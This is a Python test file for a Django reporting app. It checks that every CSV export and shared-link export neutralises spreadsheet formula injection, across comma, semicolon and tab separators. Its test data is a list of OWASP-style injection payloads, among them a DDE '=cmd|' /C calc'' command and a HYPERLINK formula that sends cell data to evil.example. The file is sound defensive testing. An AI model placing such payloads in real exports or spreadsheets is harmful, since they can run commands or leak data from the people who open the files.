"""CSV formula injection (issue 23, finding 6): no cell of any export, nor any piece of
a cell that a spreadsheet splitting on another separator would make, runs as a formula.

Spreadsheets in locales whose list separator is `;` (most of Europe) split a comma CSV
on `;`, and tab-separated readers split on tabs: each piece then starts a cell of its
own. `csv.reader` with that delimiter reads quotes as Excel and LibreOffice do (only at
the start of a field), so it stands in for them here."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.db import connection
from django.test import Client
from django.utils import timezone

from reports.export import lines, neutralise
from sharing.services import share_link_create
from tests import factories as f

# OWASP "CSV Injection" (cells must not start with these) plus what issue 23 found:
# whitespace or a line feed before them, and pieces after a separator.
OWASP = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    " =HYPERLINK(1)",
    "   @SUM(2+2)",
    "\xa0=1+1",
    "\u3000=1+1",
    "\n\n=1+1",
    "\uff1d1+1",  # full-width equals sign
    "Big news;=1+1;@SUM(2+2)",
    "Big news; =1+1",
    "Big news\t+1",
    "Big news\n=1+1",
    "Big news\r\n-1+1",
]
FORMULA = re.compile("^[\\s\\0]*[=+\\-@\uff1d\uff0b\uff0d\uff20]")


def formula_cells(text: str) -> list[str]:
    """Every cell that starts a formula when the file is read with `,`, `;` or tab."""
    found = []
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            found += [cell for cell in row if FORMULA.match(cell)]
    return found


def test_neutralised_cells_hold_no_formula_in_any_locale() -> None:
    text = b"".join(lines(["Text"], [[value] for value in OWASP])).decode()[1:]
    assert formula_cells(text) == []
    # The text itself is kept (an apostrophe is what spreadsheets hide).
    back = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert [b.replace("'", "") for b in back] == [v.replace("'", "") for v in OWASP]


@pytest.mark.parametrize("value", OWASP)
def test_each_owasp_payload_is_neutralised_on_its_own(value: str) -> None:
    text = b"".join(lines(["Text"], [[value]])).decode()[1:]
    assert formula_cells(text) == [], repr(value)


def test_plain_values_are_left_alone() -> None:
    for value in ("a=b", "Launch day", "2027-01-03 10:00", "", "Thanks, @acme"):
        assert neutralise(value) == value
    assert neutralise(-1) == -1 and neutralise(3) == 3


@pytest.fixture
def payloads(db, editor):
    now = timezone.now()
    camp = f.campaign(' =HYPERLINK("http://evil.example")')
    li = f.profile("LinkedIn", "\n=1+1")
    # PostgreSQL keeps no NUL in text, so that payload can only reach a CSV on SQLite
    # (the cell-level tests above cover it everywhere).
    stored = [t for t in OWASP if "\0" not in t or connection.vendor != "postgresql"]
    for i, text in enumerate(stored):
        f.post(
            status="complete",
            start_at=now - timedelta(days=1, minutes=i),
            profiles=[li],
            msg=f.message(text, "LinkedIn", camp),
            camp=camp,
        )
    return editor


def body(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8")[1:]


def test_every_export_and_share_csv_is_formula_free(payloads, viewer_client: Client) -> None:
    stats = share_link_create(page="stats", query="range=7d", label="s", user=payloads)
    queue = share_link_create(page="queue", query="", label="q", user=payloads)
    urls = [
        "/stats/export.csv?range=7d",
        "/stats/export.csv?range=7d&breakdown=campaign",
        "/stats/export.csv?range=7d&breakdown=profile",
        "/stats/export.csv?range=7d&breakdown=message",
        "/posts/export.csv",
    ]
    texts = [body(viewer_client.get(url)) for url in urls]
    anonymous = Client()
    texts.append(body(anonymous.get(f"/s/{stats.token}/export.csv")))
    texts.append(body(anonymous.get(f"/s/{stats.token}/export.csv?breakdown=campaign")))
    texts.append(body(anonymous.get(f"/s/{queue.token}/export.csv")))
    for url, text in zip(
        [*urls, "share stats", "share by campaign", "share queue"], texts, strict=True
    ):
        assert "=1+1" in text or "HYPERLINK" in text, url
        assert formula_cells(text) == [], url
